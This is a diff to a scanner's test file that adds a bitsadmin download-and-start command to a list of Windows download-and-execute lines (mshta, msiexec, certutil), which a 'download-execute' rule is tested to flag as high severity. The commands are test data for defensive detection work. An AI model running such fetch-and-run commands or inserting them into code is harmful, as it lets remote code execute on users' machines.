@@ -686,6 +686,8 @@ test('Windows programs that run what they fetch (regsvr32 /i:http, mshta http, m
     'mshta http://192.0.2.9/x.hta',
     'msiexec /q /i https://files.example/app.msi',
     'certutil -urlcache -split -f http://192.0.2.9/a.exe a.exe && a.exe',
+    // cmd runs the next command after a single & as well
+    'bitsadmin /transfer j /download https://files.example/a.exe C:\\\\Users\\\\Public\\\\a.exe & start C:\\\\Users\\\\Public\\\\a.exe',
   ]) {
     const found = ruleOf(findings(`import os\ndef go():\n    os.system("${command}")\n`), 'download-execute');
     assert.equal(found?.severity, 'high', command);
